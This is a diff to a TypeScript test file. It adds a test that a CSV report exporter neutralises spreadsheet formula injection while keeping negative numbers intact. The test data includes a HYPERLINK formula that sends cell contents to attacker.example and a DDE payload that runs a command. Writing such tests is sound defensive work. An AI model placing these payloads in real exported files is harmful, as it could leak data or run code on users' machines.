@@ -1,3 +1,4 @@
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { reportCsv, type ReportCsvRow } from './report-csv.js';
 
@@ -73,6 +74,22 @@ describe('reportCsv(rows)', () => {
     expect(line[2]).toBe('meets_rule_not_demonstrated');
     expect(line[10]).toBe('clopper_pearson');
     expect(line[11]).toBe('272');
+  });
+
+  it('neutralises text a spreadsheet would run as a formula, and leaves numbers, negative ones too, as numbers', () => {
+    const attacks = ['=HYPERLINK("http://attacker.example/?"&A1,"Open")', '+SUM(1,2)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)', '\tTAB', '\rCR'];
+    const csv = reportCsv(
+      attacks.map((title, index) => row({ criterion: `row${index}`, title, notes: [title], metrics: { ...row().metrics, cohen_kappa: { value: -0.25 } } })),
+    );
+    const parsed = Papa.parse<Record<string, string>>(csv, { header: true }).data;
+    expect(parsed).toHaveLength(attacks.length);
+    parsed.forEach((line, index) => {
+      expect(line.title).toBe(`'${attacks[index]}`);
+      expect(line.notes).toBe(`'${attacks[index]}`);
+      expect(line.cohen_kappa).toBe('-0.25');
+    });
+    // a safe title is left as it is
+    expect(Papa.parse<Record<string, string>>(reportCsv([row()]), { header: true }).data[0].title).toBe('Quality of the scoring tool');
   });
 
   it('gives an empty text for no rows', () => {
